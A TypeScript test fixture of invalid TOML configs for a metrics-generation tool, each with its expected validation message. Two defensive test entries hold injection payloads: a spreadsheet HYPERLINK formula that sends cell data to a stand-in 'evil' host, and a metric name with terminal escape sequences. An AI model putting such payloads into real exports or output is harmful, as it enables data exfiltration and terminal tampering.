// Bad configs, one row per rule, with the exact messages expected: shared by the library and
// command-line tests.

export const GOOD_GENERAL = "[general]\nseed = 1\nnum_samples = 100\n";
export const GOOD_METRIC = "[metrics.cpu]\nvalue = 30\n";
export const FAULT = (lines: string) =>
  `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nat = 10\nanomaly_factor = 2\npattern = "linear"\nrecovery_time = 5\n${lines}`;
/** A pattern fault placed by the seed: FAULT without its `at`. */
const PLACED = (lines: string) => FAULT(lines).replace("at = 10\n", "");
/** A metric with one season; `lines` go in the season's table. */
const SEASON = (lines: string) =>
  `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n[[metrics.cpu.seasonality]]\nperiod = 10\namplitude = 2\n${lines}`;
/** A fault on SEASON's seasons, with an envelope; `lines` give its kind and keys. */
const SEASON_FAULT = (lines: string) =>
  `${SEASON("")}[anomalies.cpu]\n${lines}at = 10\npattern = "step"\nrecovery_time = 5\n`;
/** A metric with noise and one fault on it; `lines` give the fault's kind and keys. */
const NOISY_FAULT = (lines: string) =>
  `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gaussian"\n[anomalies.cpu]\n${lines}`;
/** A metric with a research shape: `args` inside `shape = { ... }`. */
const SHAPE = (args: string) => `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nshape = { ${args} }\n`;
/** Two metrics and a derived one; `lines` go in the derived metric's table. */
const DERIVED = (lines: string) =>
  `${GOOD_GENERAL}[metrics.requests_rate]\nvalue = 100\n[metrics.errors_rate]\nvalue = 1\n[metrics.error_ratio]\n${lines}`;

/** [what is wrong, TOML text, the exact messages]. */
export const BAD_CONFIGS: [string, string, string[]][] = [
  ["no [general]", GOOD_METRIC, ["general: missing; this table is required"]],
  ["no [metrics]", GOOD_GENERAL, ["metrics: missing; this table is required"]],
  ["an empty [metrics]", `${GOOD_GENERAL}[metrics]\n`, [
    "metrics: must hold at least one metric, such as [metrics.cpu]",
  ]],
  ["an unknown top-level table", `${GOOD_GENERAL}${GOOD_METRIC}[anomaly.cpu]\nat = 1\n`, [
    `unknown key "anomaly"; did you mean "anomalies"? (general, metrics, anomalies)`,
  ]],
  ["an unknown key in [general]", `[general]\nsed = 1\nnum_samples = 10\n${GOOD_METRIC}`, [
    `general: unknown key "sed"; did you mean "seed"? (seed, num_samples, start, interval, decimals, input)`,
  ]],
  ["no num_samples", `[general]\nseed = 1\n${GOOD_METRIC}`, [
    "general.num_samples: missing; an integer >= 1 is required",
  ]],
  ["num_samples 0", `[general]\nnum_samples = 0\n${GOOD_METRIC}`, [
    "general.num_samples: must be an integer >= 1: got 0",
  ]],
  ["a fractional num_samples", `[general]\nnum_samples = 2.5\n${GOOD_METRIC}`, [
    "general.num_samples: must be an integer >= 1: got 2.5",
  ]],
  ["num_samples as a string", `[general]\nnum_samples = "100"\n${GOOD_METRIC}`, [
    `general.num_samples: must be an integer >= 1: got "100"`,
  ]],
  ["a negative seed", `[general]\nseed = -1\nnum_samples = 10\n${GOOD_METRIC}`, [
    "general.seed: must be an integer >= 0: got -1",
  ]],
  [
    "a seed beyond 2^53",
    `[general]\nseed = 9223372036854775807\nnum_samples = 10\n${GOOD_METRIC}`,
    [
      "general.seed: must be an integer >= 0: got 9223372036854775807",
    ],
  ],
  [
    "a local start time",
    `[general]\nnum_samples = 10\nstart = 2026-01-01T00:00:00\n${GOOD_METRIC}`,
    [
      "general.start: must be an RFC 3339 date-time with an offset, such as 2026-01-01T00:00:00Z: got a date or time without an offset",
    ],
  ],
  ["a start that is no date", `[general]\nnum_samples = 10\nstart = "yesterday"\n${GOOD_METRIC}`, [
    `general.start: must be an RFC 3339 date-time with an offset, such as 2026-01-01T00:00:00Z: got "yesterday"`,
  ]],
  [
    "an interval with a bad unit",
    `[general]\nnum_samples = 10\ninterval = "15 sec"\n${GOOD_METRIC}`,
    [
      `general.interval: must be seconds as a number > 0, or a duration such as "250ms", "15s", "5m", "1h": got "15 sec"`,
    ],
  ],
  ["a zero interval", `[general]\nnum_samples = 10\ninterval = 0\n${GOOD_METRIC}`, [
    `general.interval: must be seconds as a number > 0, or a duration such as "250ms", "15s", "5m", "1h": got 0`,
  ]],
  [
    "an interval below a millisecond",
    `[general]\nnum_samples = 10\ninterval = 0.0005\n${GOOD_METRIC}`,
    [
      "general.interval: must be a whole number of milliseconds: got 0.0005",
    ],
  ],
  ["too many decimals", `[general]\nnum_samples = 10\ndecimals = 16\n${GOOD_METRIC}`, [
    `general.decimals: must be an integer from 0 to 15 or "full": got 16`,
  ]],
  ["decimals as a word", `[general]\nnum_samples = 10\ndecimals = "all"\n${GOOD_METRIC}`, [
    `general.decimals: must be an integer from 0 to 15 or "full": got "all"`,
  ]],
  ["a metric without a value", `${GOOD_GENERAL}[metrics.cpu]\nnoise = "gaussian"\n`, [
    "metrics.cpu.value: missing; a number is required",
  ]],
  ["a value that is not a number", `${GOOD_GENERAL}[metrics.cpu]\nvalue = "30"\n`, [
    `metrics.cpu.value: must be a finite number: got "30"`,
  ]],
  ["an infinite value", `${GOOD_GENERAL}[metrics.cpu]\nvalue = inf\n`, [
    "metrics.cpu.value: must be a finite number: got Infinity",
  ]],
  ["a misspelt noise", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gausian"\n`, [
    `metrics.cpu.noise: "gausian" is not a noise; did you mean "gaussian"? (gaussian, uniform, exponential, logistic, laplace, normal)`,
  ]],
  [
    "a misspelt noise argument",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "gaussian"\nnoise_args = { scal = 2 }\n`,
    [
      `metrics.m.noise_args: unknown argument "scal"; did you mean "scale"? (gaussian takes loc, scale, smoothing_window)`,
    ],
  ],
  [
    "an argument of another law",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "uniform"\nnoise_args = { scale = 2 }\n`,
    [
      `metrics.m.noise_args: unknown argument "scale" (uniform takes low, high, smoothing_window)`,
    ],
  ],
  [
    "a negative scale",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "laplace"\nnoise_args = { scale = -1 }\n`,
    [
      "metrics.m.noise_args.scale: must be >= 0: got -1",
    ],
  ],
  [
    "high below low",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "uniform"\nnoise_args = { low = 1, high = 0 }\n`,
    [
      "metrics.m.noise_args.high: must be >= low (1): got 0",
    ],
  ],
  [
    "a smoothing window of 0",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "exponential"\nnoise_args = { smoothing_window = 0 }\n`,
    [
      "metrics.m.noise_args.smoothing_window: must be an integer from 1 to 1000000: got 0",
    ],
  ],
  [
    "noise_args without noise",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise_args = { scale = 1 }\n`,
    [
      `metrics.m.noise_args: given without noise; add noise = "gaussian" or another law`,
    ],
  ],
  ["a step_size of 0", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nstep_size = 0\n`, [
    "metrics.m.step_size: must be > 0: got 0",
  ]],
  ["a metric called timestamp", `${GOOD_GENERAL}[metrics.timestamp]\nvalue = 1\n`, [
    `metrics.timestamp: "timestamp" is the name of the CSV files' first column; rename the metric`,
  ]],
  ["a metric called sample", `${GOOD_GENERAL}[metrics.sample]\nvalue = 1\n`, [
    `metrics.sample: "sample" is the name of the CSV files' first column; rename the metric`,
  ]],
  ["an unknown metric key", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nstepsize = 1\n`, [
    `metrics.m: unknown key "stepsize"; did you mean "step_size"? (value, formula, recorded, series, type, noise, noise_args, step_size, trend, seasonality, wander, jumps, shape, min, max, depends_on, prometheus, service, instances, labels, churn, churn_share, life, distribution, spread, rate, hit, buckets, native, quantiles)`,
  ]],
  ["recorded = false", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nrecorded = false\n`, [
    "metrics.m.recorded: must be true, or left out: got false",
  ]],
  ["a recorded metric with a value", `${GOOD_GENERAL}[metrics.m]\nrecorded = true\nvalue = 1\n`, [
    "metrics.m.value: a recorded metric's baseline is its recorded value: value is for synthetic metrics",
  ]],
  ["series without a recorded input", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nseries = "x"\n`, [
    "metrics.m.series: names a series of a recorded input: set general.input (or --input)",
  ]],
  ["an empty input", `[general]\nnum_samples = 3\ninput = ""\n${GOOD_METRIC}`, [
    `general.input: must name a file of recorded series: got ""`,
  ]],
  [
    "a Prometheus name with a dot",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { name = "m.x" }\n`,
    [
      `metrics.m.prometheus.name: must be a Prometheus metric name, [a-zA-Z_:][a-zA-Z0-9_:]*: got "m.x"`,
    ],
  ],
  [
    "a Prometheus name chaos-datagen writes",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { name = "chaos_fault_active" }\n`,
    [`metrics.m.prometheus.name: "chaos_fault_active" is a series chaos-datagen writes itself`],
  ],
  [
    "a label name with a dash",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { "a-b" = "x" } }\n`,
    [`metrics.m.prometheus.labels.a-b: a label name must match [a-zA-Z_][a-zA-Z0-9_]*: got "a-b"`],
  ],
  [
    "a label name beginning with __",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { __name__ = "x" } }\n`,
    [`metrics.m.prometheus.labels.__name__: label names beginning with "__" are Prometheus's own: got "__name__"`],
  ],
  [
    "a label value that is not a string",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { job = 1 } }\n`,
    [`metrics.m.prometheus.labels.job: must be a string: got 1`],
  ],
  [
    "a help with a control character",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { help = "a\\u0007b" }\n`,
    [`metrics.m.prometheus.help: must not hold control characters`],
  ],
  [
    "an unknown key in prometheus",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { nam = "m" }\n`,
    [`metrics.m.prometheus: unknown key "nam"; did you mean "name"? (name, labels, help)`],
  ],
  [
    "an anomaly for a metric that does not exist",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpuu]\nat = 1\nanomaly_factor = 2\npattern = "step"\nrecovery_time = 1\n`,
    [
      `anomalies.cpuu: no metric "cpuu"; did you mean "cpu"? (cpu)`,
    ],
  ],
  ["a misspelt pattern", FAULT("").replace(`"linear"`, `"lineer"`), [
    `anomalies.cpu.pattern: "lineer" is not a pattern; did you mean "linear"? (linear, exponential, oscillating, step)`,
  ]],
  ["an anomaly past the end", FAULT("").replace("at = 10", "at = 100"), [
    "anomalies.cpu.at: must be less than num_samples (100): got 100",
  ]],
  ["a negative at", FAULT("").replace("at = 10", "at = -1"), [
    "anomalies.cpu.at: must be an integer >= 0: got -1",
  ]],
  ["a recovery past the end", FAULT("").replace("recovery_time = 5", "recovery_time = 95"), [
    "anomalies.cpu.recovery_time: at + recovery_time must be at most num_samples (100): got 10 + 95 = 105",
  ]],
  ["a recovery_time of 0", FAULT("").replace("recovery_time = 5", "recovery_time = 0"), [
    "anomalies.cpu.recovery_time: must be an integer >= 1: got 0",
  ]],
  ["a fractional recovery_time", FAULT("").replace("recovery_time = 5", "recovery_time = 2.5"), [
    "anomalies.cpu.recovery_time: must be an integer >= 1: got 2.5",
  ]],
  ["a NaN factor", FAULT("").replace("anomaly_factor = 2", "anomaly_factor = nan"), [
    "anomalies.cpu.anomaly_factor: must be a finite number: got NaN",
  ]],
  ["pattern_args on linear", FAULT("pattern_args = { frequency = 1 }\n"), [
    `anomalies.cpu.pattern_args: unknown argument "frequency"; linear takes none`,
  ]],
  [
    "a frequency of 0",
    FAULT("pattern_args = { frequency = 0 }\n").replace(`"linear"`, `"oscillating"`),
    [
      "anomalies.cpu.pattern_args.frequency: must be > 0 (radians per sample): got 0",
    ],
  ],
  ["an unknown anomaly key", FAULT("factor = 3\n"), [
    `anomalies.cpu: unknown key "factor" (kind, at, onset, hold, recovery_time, pattern, pattern_args, anomaly_factor, offset, noise_factor, count, between, min_gap, fault_type, share, match)`,
  ]],
  [
    "a fault in an array of tables, missing its keys",
    `${GOOD_GENERAL}${GOOD_METRIC}[[anomalies.cpu]]\nat = 1\n`,
    [
      "anomalies.cpu[0].anomaly_factor: missing; a fault needs anomaly_factor, offset or noise_factor",
      "anomalies.cpu[0].pattern: missing; one of linear, exponential, oscillating, step is required",
      "anomalies.cpu[0].recovery_time: missing; an integer >= 1 is required",
    ],
  ],
  [
    "a metric name that a spreadsheet reads as a formula",
    `${GOOD_GENERAL}[metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")"]\nvalue = 1\n`,
    [
      `metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
    ],
  ],
  [
    "metric names beginning with + - @",
    `${GOOD_GENERAL}[metrics."+a"]\nvalue = 1\n[metrics."-b"]\nvalue = 1\n[metrics."@c"]\nvalue = 1\n`,
    [
      `metrics."+a": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
      `metrics.-b: a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
      `metrics."@c": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
    ],
  ],
  [
    "a metric name holding terminal escapes",
    `${GOOD_GENERAL}[metrics."a\\u001b]0;pwned\\u0007\\u001b[2J"]\nvalue = 1\n`,
    [
      `metrics."a\\u001b]0;pwned\\u0007\\u001b[2J": a metric name must not hold control characters (they would reach terminals)`,
    ],
  ],
  [
    "an unknown key holding escapes, echoed escaped",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n"x\\u001b[31m" = 2\n`,
    [
      `metrics.cpu: unknown key "x\\u001b[31m" (value, formula, recorded, series, type, noise, noise_args, step_size, trend, seasonality, wander, jumps, shape, min, max, depends_on, prometheus, service, instances, labels, churn, churn_share, life, distribution, spread, rate, hit, buckets, native, quantiles)`,
    ],
  ],
  [
    "a long bad value, echoed cut",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "${"z".repeat(100_000)}"\n`,
    [
      `metrics.cpu.noise: "${
        "z".repeat(60)
      }... (100000 characters)" is not a noise (gaussian, uniform, exponential, logistic, laplace, normal)`,
    ],
  ],
  [
    "a value times its factors beyond 1e300",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\n[anomalies.cpu]\nat = 1\nanomaly_factor = 1e308\npattern = "step"\nrecovery_time = 2\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its baseline x its multiplier (its faults, and what its parents pass on) plus offsets can reach more than the largest double (1.8e308)",
    ],
  ],
  [
    "a noise scale that overflows",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gaussian"\nnoise_args = { scale = 1.7976931348623157e308 }\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (gaussian) can reach more than the largest double (1.8e308)",
    ],
  ],
  [
    "a uniform width that overflows",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "uniform"\nnoise_args = { low = -1e300, high = 1e300 }\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (uniform) can reach 2.00e+300",
    ],
  ],
  [
    "a step_size too small for the values",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\nstep_size = 1e-300\n`,
    [
      "metrics.cpu.step_size: too small for values up to 1.00e+10: value / step_size must stay within 1e+300: got 1e-300",
    ],
  ],
  ["an onset below 0", FAULT("onset = -1\n"), [
    "anomalies.cpu.onset: must be an integer >= 0: got -1",
  ]],
  ["a window that the onset and hold push past the end", FAULT("onset = 40\nhold = 50\n"), [
    "anomalies.cpu.recovery_time: at + onset + hold + recovery_time must be at most num_samples (100): got 10 + 40 + 50 + 5 = 105",
  ]],
  [
    "a duration that is not a whole number of samples",
    FAULT("").replace("[general]\n", '[general]\ninterval = "1m"\n').replace(
      "recovery_time = 5",
      'recovery_time = "90s"',
    ),
    [
      `anomalies.cpu.recovery_time: must be a whole number of samples: "90s" is 90000 ms, not a multiple of the interval (60000 ms)`,
    ],
  ],
  ["a hold that is not a duration", FAULT('hold = "ten minutes"\n'), [
    `anomalies.cpu.hold: must be an integer >= 0 (samples) or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h": got "ten minutes"`,
  ]],
  ["at as a date-time without start", FAULT("").replace("at = 10", "at = 2026-01-01T00:00:00Z"), [
    "anomalies.cpu.at: a date-time needs general.start; give at as samples or a duration instead",
  ]],
  [
    "at as a date-time between samples",
    FAULT("").replace("[general]\n", '[general]\nstart = 2026-01-01T00:00:00Z\ninterval = "1m"\n')
      .replace("at = 10", "at = 2026-01-01T00:10:30Z"),
    [
      "anomalies.cpu.at: must fall on a sample: 2026-01-01T00:10:30.000Z is 630000 ms after start, not a multiple of the interval (60000 ms)",
    ],
  ],
  ["a fault with no effect", FAULT("").replace("anomaly_factor = 2\n", ""), [
    "anomalies.cpu.anomaly_factor: missing; a fault needs anomaly_factor, offset or noise_factor",
  ]],
  ["a negative noise_factor", FAULT("noise_factor = -2\n"), [
    "anomalies.cpu.noise_factor: must be >= 0 (the noise's amplitude multiplier): got -2",
  ]],
  ["a trend without over", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntrend = { change = 3 }\n`, [
    `metrics.cpu.trend.over: missing; a time > 0: samples, or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h" is required`,
  ]],
  [
    "a season of period 0",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n[[metrics.cpu.seasonality]]\nperiod = "0s"\namplitude = 2\n`,
    [
      `metrics.cpu.seasonality[0].period: must be a time > 0: samples, or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h": got "0s"`,
    ],
  ],
  [
    "a season without amplitude, with an unknown key",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n[[metrics.cpu.seasonality]]\nperiod = "1d"\namplitud = 2\n`,
    [
      `metrics.cpu.seasonality[0]: unknown key "amplitud"; did you mean "amplitude"? (period, amplitude, peak, waveform, duty)`,
      "metrics.cpu.seasonality[0].amplitude: missing; a number is required",
    ],
  ],
  [
    "a wander window of 1",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nwander = { scale = 2, window = 1 }\n`,
    [
      "metrics.cpu.wander.window: must be an integer >= 2: got 1",
    ],
  ],
  [
    "a negative wander scale",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nwander = { scale = -2, window = 10 }\n`,
    [
      "metrics.cpu.wander.scale: must be >= 0: got -2",
    ],
  ],
  ["min above max", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nmin = 10\nmax = 5\n`, [
    "metrics.cpu.max: must be >= min (10): got 5",
  ]],
  ["an unknown kind", FAULT('kind = "flatlined"\n'), [
    `anomalies.cpu.kind: "flatlined" is not a kind; did you mean "flatline"? (pattern, flatline, missing, reset, extremum, amplitude, frequency, phase, shape, decouple)`,
  ]],
  [
    "a flatline with a pattern's keys",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "flatline"\nat = 1\nrecovery_time = 5\nanomaly_factor = 2\n`,
    [
      `anomalies.cpu: unknown key "anomaly_factor" (a flatline fault takes kind, at, recovery_time, value, count, between, min_gap, fault_type, share, match)`,
    ],
  ],
  [
    "a missing window past the end",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "missing"\nat = 90\nrecovery_time = 20\n`,
    [
      "anomalies.cpu.recovery_time: at + recovery_time must be at most num_samples (100): got 90 + 20 = 110",
    ],
  ],
  ["an unknown metric type", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "countr"\n`, [
    `metrics.cpu.type: "countr" is not a metric type; did you mean "counter"? (gauge, counter, histogram, summary)`,
  ]],
  [
    "a counter with a step_size",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "counter"\nstep_size = 1\n`,
    [
      "metrics.cpu.step_size: a counter counts whole events; step_size is for gauges",
    ],
  ],
  ["a reset on a gauge", `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "reset"\nat = 5\n`, [
    `anomalies.cpu.kind: "reset" restarts a counter; this metric is a gauge (type = "counter")`,
  ]],
  [
    "a reset with a recovery_time",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "counter"\n[anomalies.cpu]\nkind = "reset"\nat = 5\nrecovery_time = 3\n`,
    [
      `anomalies.cpu: unknown key "recovery_time" (a reset takes kind, at, count, between, min_gap, fault_type, share, match)`,
    ],
  ],
  [
    "a counter that could count past 2^53",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e14\ntype = "counter"\n`,
    [
      "metrics.cpu: a counter's count must stay below 2^53 to be exact: its rate (up to 1.00e+14/s) over 100 samples could count 1.00e+16 events",
    ],
  ],
  [
    "a dependency on a metric that does not exist",
    `${GOOD_GENERAL}[metrics.api]\nvalue = 1\ndepends_on = { dbb = { lag = 1 } }\n[metrics.db]\nvalue = 1\n`,
    [
      `metrics.api.depends_on.dbb: no metric "dbb"; did you mean "db"? (api, db)`,
    ],
  ],
  [
    "a metric depending on itself",
    `${GOOD_GENERAL}[metrics.api]\nvalue = 1\ndepends_on = { api = {} }\n`,
    [
      "metrics.api.depends_on.api: a metric cannot depend on itself",
    ],
  ],
  [
    "a cycle of dependencies",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = {} }\n[metrics.b]\nvalue = 1\ndepends_on = { c = {} }\n[metrics.c]\nvalue = 1\ndepends_on = { a = {} }\n`,
    [
      "metrics.a.depends_on: a cycle of dependencies: a -> b -> c -> a",
    ],
  ],
  [
    "a bad weight and lag",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = { weight = nan, lag = -1 } }\n[metrics.b]\nvalue = 1\n`,
    [
      "metrics.a.depends_on.b.weight: must be a finite number: got NaN",
      "metrics.a.depends_on.b.lag: must be an integer >= 0: got -1",
    ],
  ],
  [
    "a dependency weight that overflows (found by the fuzzer)",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = { weight = 1e308 } }\n[metrics.b]\nvalue = 1\n[anomalies.b]\nat = 1\nrecovery_time = 2\npattern = "step"\nanomaly_factor = 2\n`,
    [
      "metrics.a: values must stay within +-1e+300 to be computed exactly: its baseline x its multiplier (its faults, and what its parents pass on) plus offsets can reach more than the largest double (1.8e308)",
    ],
  ],
  // Seasons' waveforms (SPEC section 15).
  ["a misspelt waveform", SEASON('waveform = "sqaure"\n'), [
    `metrics.cpu.seasonality[0].waveform: "sqaure" is not a waveform; did you mean "square"? (cosine, square, triangle, sawtooth)`,
  ]],
  ["a duty of 1", SEASON('waveform = "square"\nduty = 1\n'), [
    "metrics.cpu.seasonality[0].duty: must be between 0 and 1 (the share of the period high): got 1",
  ]],
  ["a duty without a square waveform", SEASON("duty = 0.3\n"), [
    `metrics.cpu.seasonality[0].duty: is for waveform = "square" only`,
  ]],
  [
    "a sawtooth season whose period is not whole milliseconds",
    SEASON('waveform = "sawtooth"\n').replace("period = 10", 'period = "1.5ms"'),
    [
      "metrics.cpu.seasonality[0].period: must be a whole number of milliseconds with a sawtooth waveform",
    ],
  ],
  // Jumps.
  ["jumps without levels", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\njumps = { every = 10 }\n`, [
    "metrics.cpu.jumps.levels: missing; an array of 2 to 1000 finite numbers is required",
  ]],
  [
    "jumps with one level",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\njumps = { levels = [3], every = 10 }\n`,
    [
      "metrics.cpu.jumps.levels: must be an array of 2 to 1000 finite numbers (the levels): got an array of 1",
    ],
  ],
  [
    "a jump level that is not a number",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\njumps = { levels = [3, "6"], every = 10 }\n`,
    [`metrics.cpu.jumps.levels[1]: must be a finite number: got "6"`],
  ],
  [
    "jumps no rarer than the interval",
    `[general]\nnum_samples = 100\ninterval = "1m"\n[metrics.cpu]\nvalue = 1\njumps = { levels = [3, 6], every = "30s" }\n`,
    [
      `metrics.cpu.jumps.every: must be longer than the interval (60 s): a sample jumps with probability interval / every: got "30s"`,
    ],
  ],
  [
    "an unknown key in jumps",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\njumps = { level = [3, 6], every = 10 }\n`,
    [
      `metrics.cpu.jumps: unknown key "level"; did you mean "levels"? (levels, every)`,
      "metrics.cpu.jumps.levels: missing; an array of 2 to 1000 finite numbers is required",
    ],
  ],
  // Research shapes: each argument's rule broken once.
  ["a misspelt shape", SHAPE('kind = "polynomal", polynomial = [1]'), [
    `metrics.cpu.shape.kind: "polynomal" is not a shape; did you mean "polynomial"? (ecg, cbf, mls, dirichlet, polynomial)`,
  ]],
  ["an argument of another shape", SHAPE('kind = "cbf", frequency = 2'), [
    `metrics.cpu.shape: unknown key "frequency" (shape cbf takes kind, amplitude, avg-pattern-length, variance-pattern-length, variance-amplitude)`,
  ]],
  ["an ecg frequency of 100", SHAPE('kind = "ecg", frequency = 100'), [
    "metrics.cpu.shape.frequency: must be from 1/60 to below 100 (beats per 100 samples: int(60 frequency) a minute): got 100",
  ]],
  ["an ecg amplitude of 0", SHAPE('kind = "ecg", amplitude = 0'), [
    "metrics.cpu.shape.amplitude: must be > 0: got 0",
  ]],
  ["the ecgsyn method", SHAPE('kind = "ecg", ecg-sim-method = "ecgsyn"'), [
    `metrics.cpu.shape.ecg-sim-method: must be "simple" (the ecgsyn model is not built): got "ecgsyn"`,
  ]],
  ["a cbf avg-pattern-length of 0", SHAPE('kind = "cbf", avg-pattern-length = 0'), [
    "metrics.cpu.shape.avg-pattern-length: must be an integer from 1 to 10^9 (samples): got 0",
  ]],
  ["a fractional cbf avg-pattern-length", SHAPE('kind = "cbf", avg-pattern-length = 1.5'), [
    "metrics.cpu.shape.avg-pattern-length: must be an integer from 1 to 10^9 (samples): got 1.5",
  ]],
  [
    "a negative cbf variance-pattern-length",
    SHAPE('kind = "cbf", variance-pattern-length = -1'),
    [
      "metrics.cpu.shape.variance-pattern-length: must be from 0 to 10^9 (the deviation of a pattern's length): got -1",
    ],
  ],
  ["a negative cbf variance-amplitude", SHAPE('kind = "cbf", variance-amplitude = -1'), [
    "metrics.cpu.shape.variance-amplitude: must be >= 0 (the deviation of a pattern's height): got -1",
  ]],
  ["an mls amplitude of 0", SHAPE('kind = "mls", amplitude = 0'), [
    "metrics.cpu.shape.amplitude: must be > 0: got 0",
  ]],
  ["an mls complexity of 16", SHAPE('kind = "mls", complexity = 16'), [
    "metrics.cpu.shape.complexity: must be an integer from 2 to 15 (bits of the shift register): got 16",
  ]],
  ["an mls smoothing below 0.01", SHAPE('kind = "mls", smoothing = 0.005'), [
    "metrics.cpu.shape.smoothing: must be 0, or from 0.01 to 10 (a Gaussian window of int(100 smoothing) samples): got 0.005",
  ]],
  ["a dirichlet frequency of 0", SHAPE('kind = "dirichlet", frequency = 0'), [
    "metrics.cpu.shape.frequency: must be > 0 (periods per 100 samples): got 0",
  ]],
  ["a dirichlet amplitude of 0", SHAPE('kind = "dirichlet", amplitude = 0'), [
    "metrics.cpu.shape.amplitude: must be > 0: got 0",
  ]],
  ["a dirichlet periodicity of 1", SHAPE('kind = "dirichlet", periodicity = 1'), [
    "metrics.cpu.shape.periodicity: must be an integer from 2 to 10^6 (the kernel's order): got 1",
  ]],
  ["a polynomial without coefficients", SHAPE('kind = "polynomial"'), [
    "metrics.cpu.shape.polynomial: missing; an array of 1 to 64 finite numbers is required",
  ]],
  ["an empty polynomial", SHAPE('kind = "polynomial", polynomial = []'), [
    "metrics.cpu.shape.polynomial: must be an array of 1 to 64 finite numbers (the coefficients): got an array of 0",
  ]],
  [
    "a polynomial coefficient that is not a number",
    SHAPE('kind = "polynomial", polynomial = [1, "x"]'),
    [
      `metrics.cpu.shape.polynomial[1]: must be a finite number: got "x"`,
    ],
  ],
  [
    "a polynomial of high degree that overflows",
    SHAPE(`kind = "polynomial", polynomial = [${"0, ".repeat(61)}1]`).replace(
      "num_samples = 100\n",
      "num_samples = 100000\n",
    ),
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its baseline x its multiplier (its faults, and what its parents pass on) plus offsets can reach 9.99e+304",
    ],
  ],
  // Derived metrics.
  ["a formula that is not a string", DERIVED("formula = 1\n"), [
    `metrics.error_ratio.formula: must be a formula over other metrics, such as "errors / max(requests, 1)": got 1`,
  ]],
  ["an empty formula", DERIVED('formula = ""\n'), [
    `metrics.error_ratio.formula: must be a formula over other metrics, such as "errors / max(requests, 1)": got ""`,
  ]],
  ["a formula with a syntax error", DERIVED('formula = "errors_rate / (requests_rate"\n'), [
    `metrics.error_ratio.formula: at column 29: expected ")" to close the "(" at column 15, got the end`,
  ]],
  [
    "a formula reading a metric that does not exist",
    DERIVED('formula = "errors_rate / request_rate"\n'),
    [
      `metrics.error_ratio.formula: unknown metric "request_rate" at column 15; did you mean "requests_rate"? (requests_rate, errors_rate, error_ratio)`,
    ],
  ],
  [
    "a formula calling an unknown function",
    DERIVED('formula = "errors_rate / mx(requests_rate, 1)"\n'),
    [
      `metrics.error_ratio.formula: unknown function "mx" at column 15; did you mean "max"? (min, max, abs)`,
    ],
  ],
  [
    "a formula calling a function with two arguments for one",
    DERIVED('formula = "abs(errors_rate, requests_rate)"\n'),
    [
